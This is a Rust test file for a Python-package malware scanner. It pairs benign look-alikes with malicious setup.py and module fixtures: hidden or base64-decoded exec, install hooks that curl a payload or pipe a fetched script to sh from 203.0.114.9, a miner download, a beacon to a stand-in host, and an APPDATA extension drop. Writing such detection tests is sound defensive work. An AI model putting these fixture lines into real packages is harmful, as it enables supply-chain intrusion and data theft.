//! False positives of issue #12 turned into rules that generalise: for each
//! change, the benign look-alike that must stay below high next to the
//! malicious pattern that must stay high. The look-alikes imitate what
//! popular projects ship (a CUDA extension fetching its own prebuilt wheel,
//! a template engine compiling a pickled syntax tree, a RECORD written with
//! hex digests, an install override that checks `node -v` and copies files).

mod support;

use sha2::Digest;
use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Low, Medium};

fn max(report: &airlock_inspect::Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

// ---------------------------------------------------------------- metadata/record

#[test]
fn a_record_written_with_hex_digests_of_the_files_is_no_mismatch() {
    let hex = |c: &[u8]| hex::encode(sha2::Sha256::digest(c));
    let r = wheel_with_record(&[("acme/__init__.py", b"x = 1\n")], |_, c| Some(hex(c)));
    none(&r, "metadata/record");
}

#[test]
fn a_hex_digest_of_other_content_is_still_a_changed_file() {
    let stale = |c: &[u8]| hex::encode(sha2::Sha256::digest([c, b"#"].concat()));
    let r = wheel_with_record(&[("acme/__init__.py", b"x = 1\n")], |_, c| Some(stale(c)));
    assert_eq!(max(&r, "metadata/record"), Some(High));
}

#[test]
fn metadata_rewritten_after_the_build_is_medium_but_changed_code_stays_high() {
    // A tool rewrote METADATA after the build (a tag or a description): no code changed.
    let stale_metadata = |c: &[u8]| b64(&sha2::Sha256::digest(if c == METADATA.as_bytes() { b"older metadata".as_slice() } else { c }));
    let r = wheel_with_record(&[("acme/__init__.py", b"x = 1\n")], |_, c| Some(stale_metadata(c)));
    assert_eq!(max(&r, "metadata/record"), Some(Medium));
    let stale_code = |c: &[u8]| b64(&sha2::Sha256::digest(if c == b"x = 1\n" { b"x = 2\n".as_slice() } else { c }));
    let r = wheel_with_record(&[("acme/__init__.py", b"x = 1\n")], |_, c| Some(stale_code(c)));
    assert_eq!(max(&r, "metadata/record"), Some(High));
    // entry_points.txt installs commands: a change there is a changed program.
    let ep = "[console_scripts]\nacme = acme:main\n";
    let stale_entry_points = |c: &[u8]| b64(&sha2::Sha256::digest(if c == ep.as_bytes() { b"[console_scripts]\n".as_slice() } else { c }));
    let r = wheel_with_record(&[("acme/__init__.py", b"x = 1\n"), ("acme-1.0.dist-info/entry_points.txt", ep.as_bytes())], |_, c| Some(stale_entry_points(c)));
    assert_eq!(max(&r, "metadata/record"), Some(High));
}

// ---------------------------------------------------------------- payload/exec-hidden

#[test]
fn exec_looked_up_by_its_plain_name_for_python_2_compatibility_is_below_high() {
    let r = module("import builtins\nrl_exec = getattr(builtins, 'exec')\ndel builtins\n");
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Medium)]);
}

#[test]
fn exec_looked_up_by_plain_or_computed_name_and_called_stays_critical() {
    let r = module("getattr(__builtins__, 'exec')(payload)\ngetattr(__builtins__, 'ex' + 'ec')(payload)\n");
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(1, Critical), (2, Critical)]);
}

// ---------------------------------------------------------------- payload/exec-decoded

#[test]
fn a_deserializer_exec_of_its_decoded_parameter_is_medium() {
    let r = module(
        r#"import base64, json
def deserialize_function(serialized):
    payload = json.loads(base64.b64decode(serialized.encode('utf-8')))
    source = payload['source']
    namespace = {}
    exec(source, namespace)
    return namespace[payload['name']]
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(6, Medium)]);
}

#[test]
fn a_template_engine_compiling_a_pickled_syntax_tree_is_medium() {
    let r = module("import pickle\ndef render(NS):\n    M = pickle.loads(__nodes__)\n    exec(compile(M, '<template>', 'exec'), NS)\n");
    assert_eq!(max(&r, "payload/exec-decoded"), Some(Medium));
}

#[test]
fn exec_of_a_decoded_constant_or_a_helper_given_one_stays_critical() {
    let blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=";
    let r = module(&format!("import base64\ndef run():\n    exec(base64.b64decode('{blob}'))\n"));
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
    let r = module(&format!("import base64\ndef run(p):\n    exec(base64.b64decode(p))\nrun('{blob}')\n"));
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
    let r = module("import marshal\ndef load(path):\n    exec(marshal.loads(open(path, 'rb').read()))\n".replace("path", "p").as_str());
    assert_eq!(max(&r, "payload/exec-decoded"), Some(Medium), "marshal of a file named by the caller is input too");
    let r = module("import marshal, zlib\ndef load():\n    exec(marshal.loads(zlib.decompress(open('data.bin', 'rb').read())))\n");
    assert_eq!(max(&r, "payload/exec-decoded"), Some(Critical), "a payload shipped in a data file is the code's own");
}

// ---------------------------------------------------------------- access/process-on-install: pip, version probes, copy steps

#[test]
fn pip_installing_a_named_build_dependency_from_setup_py_is_medium() {
    let r = setup_py("import pip\npip.main(['install', 'python-dotenv'])\nfrom dotenv import load_dotenv\nfrom setuptools import setup\nsetup(name='acme')\n");
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Medium)]);
}

#[test]
fn pip_installing_from_a_url_or_in_a_setup_py_that_writes_into_appdata_is_high() {
    let r = setup_py("import pip\npip.main(['install', 'git+https://example.org/x/y.git'])\n");
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, High)]);
    let r = setup_py(
        r#"import os
from pip._internal import main
main(['install', 'pypiwin32'])
app = os.getenv('APPDATA')
with open(app + '\\Extension\\background.js', 'w+') as f:
    f.write('chrome.extension')
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, High)]);
}

#[test]
fn an_install_override_checking_tool_versions_and_copying_files_is_below_high() {
    let r = setup_py(
        r#"import os
from setuptools.command.install import install
class PostInstall(install):
    @staticmethod
    def get_version(tool):
        return os.popen(f'{tool} -v').read()
    def run(self):
        self.get_version('node')
        os.system('mkdir '
                  f'{self.dest}/acme')
        os.system('cp -r node_modules/ '
                  f'{self.dest}/acme/node_modules')
"#,
    );
    let worst = hits(&r, "access/process-on-install", SETUP).into_iter().map(|(_, s)| s).max();
    assert_eq!(worst, Some(Medium), "{:?}", hits(&r, "access/process-on-install", SETUP));
    assert!(hits(&r, "access/process-on-install", SETUP).contains(&(8, Low)));
}

#[test]
fn an_install_override_asking_a_tool_for_its_usage_or_build_flags_is_low() {
    // PyLaTeX checks that 3to2 is installed; wxPython asks gtk-config for its flags.
    let r = setup_py(
        r#"import os, subprocess
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        subprocess.check_output(["3to2", "--help"])
        cflags = os.popen('gtk-config --cflags', 'r').read()[:-1]
        libs = subprocess.check_output(["pkg-config", "--libs", "gtk+-3.0"])
        install.run(self)
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, Low), (6, Low), (7, Low)]);
}

#[test]
fn a_config_program_given_a_path_or_a_help_flag_with_a_command_stays_high() {
    let r = setup_py(
        r#"import os
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        os.system('update-config --apply /tmp/.cache/payload')
        os.system('helper --help; helper --run')
        os.system('update-config --fetch=203.0.114.9 | sh')
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, High), (6, High), (7, High)]);
}

#[test]
fn an_install_override_starting_an_unknown_program_or_a_download_stays_high() {
    let r = setup_py(
        r#"import os
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        os.system('update-helper --quiet')
        os.system('mkdir /tmp/x && curl -o /tmp/x/a http://203.0.114.9/a')
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, High), (6, High)]);
}

// ---------------------------------------------------------------- access/network-on-install

const CUDA_SETUP: &str = r#"import os, shutil, urllib.request
from wheel.bdist_wheel import bdist_wheel
BASE_WHEEL_URL = "https://github.com/acme-lab/acme/releases/download/{tag_name}/{wheel_name}"
def get_wheel_url():
    name = "acme-1.0+cu12-cp312-cp312-linux_x86_64.whl"
    return BASE_WHEEL_URL.format(tag_name="v1.0", wheel_name=name), name
class CachedWheelsCommand(bdist_wheel):
    def run(self):
        wheel_url, wheel_filename = get_wheel_url()
        urllib.request.urlretrieve(wheel_url, wheel_filename)
        shutil.move(wheel_filename, os.path.join(self.dist_dir, wheel_filename))
"#;

#[test]
fn a_build_fetching_the_project_own_prebuilt_wheel_from_its_releases_is_medium() {
    let r = setup_py(CUDA_SETUP);
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(10, Medium)]);
}

#[test]
fn a_download_from_another_project_releases_or_a_beacon_stays_high() {
    // A miner fetched from someone else's releases.
    let r = setup_py(&CUDA_SETUP.replace("acme-lab/acme", "xmrig/xmrig"));
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(10, High)]);
    // The project's own release URL named in the file, and a beacon to another host.
    let beacon = format!("{CUDA_SETUP}urllib.request.urlopen('https://collector.example.net/log?os=' + os.name)\n");
    assert_eq!(hits(&setup_py(&beacon), "access/network-on-install", SETUP), [(10, Medium), (12, High)]);
    // The same download at import time is no build step.
    let r = module(&CUDA_SETUP.replace("class CachedWheelsCommand(bdist_wheel):\n    def run(self):\n", "if True:\n    if True:\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

// ---------------------------------------------------------------- scripts a person runs

// A request whose answer is thrown away: high wherever it runs on import
// (a download kept as data is judged apart, in look_alikes.rs).
const FETCHING_SCRIPT: &str = "import urllib.request\nurllib.request.urlopen('https://data.example.org/refresh')\n";

#[test]
fn a_script_folder_nothing_imports_runs_when_a_person_runs_it_not_on_import() {
    let r = wheel(&[
        ("acme/__init__.py", "from .core import lookup\n"),
        ("acme/core.py", "def lookup(ip):\n    return ip\n"),
        ("acme/scripts/refresh.py", FETCHING_SCRIPT),
    ]);
    // The same file and path are high when the package imports it (the next test).
    assert!(r.findings.iter().all(|f| f.severity < High), "{:?}", r.findings);
}

#[test]
fn a_script_folder_the_package_imports_runs_on_import() {
    let r = wheel(&[("acme/__init__.py", "from .scripts import refresh\n"), ("acme/scripts/refresh.py", FETCHING_SCRIPT)]);
    assert!(hits(&r, "access/network-on-install", "acme/scripts/refresh.py").iter().any(|(_, s)| *s >= High), "{:?}", r.findings);
}
